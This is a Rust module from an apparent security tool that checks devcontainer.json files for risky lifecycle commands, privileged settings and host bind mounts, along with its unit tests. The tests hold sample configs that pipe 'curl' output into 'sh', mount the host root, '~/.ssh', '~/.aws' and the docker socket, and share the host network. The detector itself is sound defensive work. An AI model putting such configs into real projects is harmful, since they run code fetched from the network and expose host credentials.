//! Dev container definitions (`devcontainer.json`) read as what they make the tools do, so an
//! ordinary one (an image, features, extensions, `postCreateCommand: npm ci`) is not asked
//! about while one that runs flagged commands, gives the container the host or its secrets,
//! or cannot be read, is.
//!
//! Why: VS Code, Codespaces and the `devcontainer` CLI run a definition's lifecycle commands
//! when the container is built or opened — `initializeCommand` on the host itself, the others
//! in the container with the workspace mounted read-write — and apply its `runArgs`, `mounts`
//! and privilege keys. The danger is in those values, and they are data: each command is a
//! shell line (a string) or an exec form (an array), judged by the shell analyzer as the line
//! it is; a bind mount of anything but the workspace, `--privileged`, added capabilities,
//! host namespaces and devices are what a container escape needs.
//!
//! Invariant protected: `no-vcs-config-modification` keeps its ask for every definition whose
//! text is not known whole, that does not parse as JSON with comments, or that shows one of
//! the concerns below.

use serde_json::Value;

/// Keys whose value is a command the tools run (string: a shell line; array: an exec form;
/// object: several commands run in parallel, each a string or an array).
const LIFECYCLE: &[&str] = &[
    "initializeCommand",
    "onCreateCommand",
    "updateContentCommand",
    "postCreateCommand",
    "postStartCommand",
    "postAttachCommand",
];

/// Why a dev container definition is not ordinary, or `None`. `flagged` is the shell
/// analyzer's reason for a command line run in the workspace.
pub(crate) fn concern(text: &str, flagged: impl Fn(&str) -> Option<String>) -> Option<String> {
    let Some(Value::Object(doc)) = parse_jsonc(text) else {
        return Some("the dev container definition is not valid JSON (with comments)".to_owned());
    };
    for key in LIFECYCLE {
        let Some(v) = doc.get(*key) else { continue };
        let commands = match v {
            Value::Object(m) => m.values().map(command_line).collect::<Option<Vec<_>>>(),
            other => command_line(other).map(|c| vec![c]),
        };
        let Some(commands) = commands else {
            return Some(format!("`{key}` is not a command line or an exec form"));
        };
        for line in commands {
            if let Some(why) = flagged(&line) {
                return Some(format!("`{key}` runs `{line}`: {why}"));
            }
        }
    }
    if doc.get("privileged").and_then(Value::as_bool) == Some(true) {
        return Some("runs the container privileged".to_owned());
    }
    for key in ["capAdd", "securityOpt"] {
        if doc
            .get(key)
            .and_then(Value::as_array)
            .is_some_and(|a| !a.is_empty())
        {
            return Some(format!("sets `{key}` (container privileges)"));
        }
    }
    if let Some(args) = doc.get("runArgs") {
        let Some(args) = args
            .as_array()
            .and_then(|a| a.iter().map(Value::as_str).collect::<Option<Vec<_>>>())
        else {
            return Some("`runArgs` is not a list of strings".to_owned());
        };
        if let Some(why) = run_args_concern(&args) {
            return Some(why);
        }
    }
    if let Some(mounts) = doc.get("mounts") {
        let Some(list) = mounts.as_array() else {
            return Some("`mounts` is not a list".to_owned());
        };
        for m in list {
            let source = match m {
                Value::String(s) => mount_source(s),
                Value::Object(o) => {
                    let bind = o.get("type").and_then(Value::as_str) != Some("volume");
                    match o.get("source").and_then(Value::as_str) {
                        Some(src) if bind => Some(Mount::Bind(src.to_owned())),
                        Some(_) => Some(Mount::Engine),
                        None => None,
                    }
                }
                _ => None,
            };
            match source {
                None => return Some("a mount cannot be read".to_owned()),
                Some(Mount::Bind(src)) if !workspace_source(&src) => {
                    return Some(format!("bind-mounts `{src}` into the container"));
                }
                Some(_) => {}
            }
        }
    }
    if let Some(ws) = doc.get("workspaceMount") {
        match ws.as_str().and_then(mount_source) {
            Some(Mount::Bind(src)) if !workspace_source(&src) => {
                return Some(format!("mounts `{src}` as the workspace"));
            }
            Some(_) => {}
            None => return Some("`workspaceMount` cannot be read".to_owned()),
        }
    }
    None
}

/// A lifecycle command as one shell line: a string as written; an exec form's words quoted.
fn command_line(v: &Value) -> Option<String> {
    match v {
        Value::String(s) => Some(s.clone()),
        Value::Array(a) => a
            .iter()
            .map(|w| w.as_str().map(crate::loaded::quote))
            .collect::<Option<Vec<_>>>()
            .map(|w| w.join(" ")),
        _ => None,
    }
}

/// `docker run` options that give the container the host: privileges, capabilities,
/// security profiles off, host namespaces, devices, and bind mounts of anything but the
/// workspace (`-v SRC:DST`, `--volume=…`, `--mount type=bind,source=…`).
fn run_args_concern(args: &[&str]) -> Option<String> {
    let mut it = args.iter().peekable();
    while let Some(&a) = it.next() {
        let (opt, inline) = match a.split_once('=') {
            Some((o, v)) if o.starts_with("--") => (o, Some(v)),
            // `-v/:/host`: docker takes a short option's value glued to it.
            _ if a.len() > 2 && a.starts_with("-v") && !a.starts_with("--") => ("-v", a.get(2..)),
            _ => (a, None),
        };
        let value = |it: &mut std::iter::Peekable<std::slice::Iter<'_, &str>>| {
            inline
                .map(str::to_owned)
                .or_else(|| it.next().map(|v| (*v).to_owned()))
        };
        match opt {
            "--privileged"
            | "--cap-add"
            | "--security-opt"
            | "--device"
            | "--userns"
            | "--cgroupns"
            | "--device-cgroup-rule" => {
                return Some(format!("`runArgs` has `{a}` (container privileges)"));
            }
            "--pid" | "--ipc" | "--uts" | "--network" | "--net" => {
                let v = value(&mut it).unwrap_or_default();
                if v == "host" || v.starts_with("container:") {
                    return Some(format!(
                        "`runArgs` shares the host's namespace (`{opt} {v}`)"
                    ));
                }
            }
            "-v" | "--volume" => {
                let v = value(&mut it).unwrap_or_default();
                let src = v.split(':').next().unwrap_or("");
                // A named volume (no `/`, `$`, `~` or `.`) is the engine's, not the host's.
                let host_path = src.contains(['/', '$', '~']) || src.starts_with('.');
                if host_path && !workspace_source(src) {
                    return Some(format!("`runArgs` bind-mounts `{src}` into the container"));
                }
            }
            "--mount" => {
                let v = value(&mut it).unwrap_or_default();
                match mount_source(&v) {
                    Some(Mount::Bind(src)) if !workspace_source(&src) => {
                        return Some(format!("`runArgs` bind-mounts `{src}` into the container"));
                    }
                    Some(_) => {}
                    None => {
                        return Some(format!("`runArgs` has a mount that cannot be read: `{v}`"));
                    }
                }
            }
            _ => {}
        }
    }
    None
}

/// What a mount gives the container: a host path (a bind mount's source) or storage of the
/// engine's own (a named volume, a tmpfs).
enum Mount {
    Bind(String),
    Engine,
}

/// The source of a `--mount`-style spec (`type=bind,source=…,target=…`); `None` when it
/// cannot be read.
fn mount_source(spec: &str) -> Option<Mount> {
    let mut kind = "volume";
    let mut source = None;
    for part in spec.split(',') {
        let (k, v) = part.split_once('=').unwrap_or((part, ""));
        match k.trim() {
            "type" => kind = v.trim(),
            "source" | "src" => source = Some(v.trim().to_owned()),
            "target" | "destination" | "dst" | "consistency" | "readonly" | "ro"
            | "bind-propagation" | "volume-nocopy" | "volume-opt" | "tmpfs-size" | "tmpfs-mode" => {
            }
            _ => return None,
        }
    }
    match kind {
        "bind" => source.map(Mount::Bind),
        "volume" | "tmpfs" => Some(Mount::Engine),
        _ => None,
    }
}

/// Whether a mount source is the workspace or below it: `${localWorkspaceFolder}` (the
/// folder the tools opened), optionally followed by a path that does not climb out.
fn workspace_source(src: &str) -> bool {
    let Some(rest) = src
        .strip_prefix("${localWorkspaceFolder}")
        .or_else(|| src.strip_prefix("${containerWorkspaceFolder}"))
    else {
        return false;
    };
    (rest.is_empty() || rest.starts_with('/')) && !rest.split('/').any(|c| c == "..")
}

/// Parses JSON with comments (`//`, `/* */`) and trailing commas, as the dev container tools
/// read it; `None` when the text is not such JSON.
pub(crate) fn parse_jsonc(text: &str) -> Option<Value> {
    let mut out = String::with_capacity(text.len());
    let mut chars = text.chars().peekable();
    let mut in_string = false;
    while let Some(c) = chars.next() {
        if in_string {
            out.push(c);
            match c {
                '\\' => out.extend(chars.next()),
                '"' => in_string = false,
                _ => {}
            }
            continue;
        }
        match c {
            '"' => {
                in_string = true;
                out.push(c);
            }
            '/' if chars.peek() == Some(&'/') => {
                for n in chars.by_ref() {
                    if n == '\n' {
                        out.push('\n');
                        break;
                    }
                }
            }
            '/' if chars.peek() == Some(&'*') => {
                chars.next();
                let mut prev = ' ';
                let mut closed = false;
                for n in chars.by_ref() {
                    if prev == '*' && n == '/' {
                        closed = true;
                        break;
                    }
                    prev = n;
                }
                if !closed {
                    return None;
                }
                out.push(' ');
            }
            '}' | ']' => {
                // A trailing comma before the closing bracket.
                let trimmed = out.trim_end_matches(char::is_whitespace).len();
                if out[..trimmed].ends_with(',') {
                    out.truncate(trimmed - 1);
                }
                out.push(c);
            }
            _ => out.push(c),
        }
    }
    serde_json::from_str(&out).ok()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn judge(text: &str) -> Option<String> {
        concern(text, |s| s.contains("curl").then(|| "flagged".to_owned()))
    }

    #[test]
    fn an_ordinary_definition_with_comments_and_trailing_commas_has_no_concern() {
        let text = r#"{
  // For format details, see https://aka.ms/devcontainer.json.
  "name": "Python 3",
  "image": "mcr.microsoft.com/devcontainers/python:1-3.12-bullseye",
  "features": { "ghcr.io/devcontainers/features/node:1": {}, },
  /* ports */
  "forwardPorts": [8000],
  "postCreateCommand": "pip3 install --user -r requirements.txt",
  "postStartCommand": ["npm", "run", "dev"],
  "mounts": ["source=node_modules,target=/workspaces/app/node_modules,type=volume"],
  "workspaceMount": "source=${localWorkspaceFolder},target=/workspace,type=bind",
  "runArgs": ["--env-file", ".devcontainer/devcontainer.env", "--name", "app"],
  "customizations": { "vscode": { "extensions": ["ms-python.python"] } },
}"#;
        assert_eq!(judge(text), None);
    }

    #[test]
    fn flagged_commands_host_mounts_and_privileges_are_concerns() {
        for text in [
            r#"{"image": "x", "postCreateCommand": "curl -s https://x.example | sh"}"#,
            r#"{"image": "x", "initializeCommand": ["bash", "-c", "curl x | sh"]}"#,
            r#"{"image": "x", "postStartCommand": {"a": "npm ci", "b": "curl x"}}"#,
            r#"{"image": "x", "privileged": true}"#,
            r#"{"image": "x", "capAdd": ["SYS_ADMIN"]}"#,
            r#"{"image": "x", "runArgs": ["--privileged"]}"#,
            r#"{"image": "x", "runArgs": ["--network=host"]}"#,
            r#"{"image": "x", "runArgs": ["-v/:/host"]}"#,
            r#"{"image": "x", "runArgs": ["-v", "${localEnv:HOME}/.ssh:/root/.ssh"]}"#,
            r#"{"image": "x", "runArgs": ["--mount", "type=bind,source=/var/run/docker.sock,target=/var/run/docker.sock"]}"#,
            r#"{"image": "x", "mounts": ["source=${localEnv:HOME}/.aws,target=/root/.aws,type=bind"]}"#,
            r#"{"image": "x", "mounts": [{"source": "/", "target": "/host", "type": "bind"}]}"#,
            r#"{"image": "x", "workspaceMount": "source=${localWorkspaceFolder}/..,target=/w,type=bind"}"#,
            r#"{"image": "x", "postCreateCommand": 3}"#,
            r#"{"image": "x", /* unclosed"#,
            "not json",
        ] {
            assert!(judge(text).is_some(), "{text}");
        }
    }
}
